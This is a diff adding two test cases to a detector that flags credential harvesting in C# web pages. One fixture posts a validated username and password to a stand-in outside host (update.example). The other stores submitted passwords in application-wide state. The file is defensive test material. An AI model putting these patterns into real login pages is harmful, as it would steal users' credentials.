@@ -8,6 +8,24 @@ const sample = webSample(detector.id);
 testDetector(detector, {
   hits: [
     {
+      name: 'sent to another host by a page that has asked whether it is right',
+      input: csharpPage(
+        'if (Membership.ValidateUser(Request.Form["user"], Request.Form["password"])) { var n = new NameValueCollection();',
+        'n["id"] = Request.Form["user"]; n["key"] = Request.Form["password"];',
+        'new WebClient().UploadValues("https://update.example/check", n); }',
+      ),
+      detections: [{ message: 'sent', at: { label: 'sink', line: 4 }, severity: 'high' }],
+    },
+    {
+      name: 'kept in memory among other fields',
+      input: csharpPage(
+        'var l = Application["c"] as List<string> ?? new List<string>();',
+        'l.Add(Request.Form["userNameTextBox"] + " / " + Request.Form["passwordTextBox"] + " / " + Request.Form["host"]);',
+        'Application["c"] = l;',
+      ),
+      detections: [{ message: 'remembered', at: { label: 'sink', line: 4 }, severity: 'medium' }],
+    },
+    {
       name: 'logon form that keeps what is entered',
       input: sample('hit/logon.aspx.split'),
       detections: [{ message: 'kept', at: { label: 'sink', line: 5 } }],
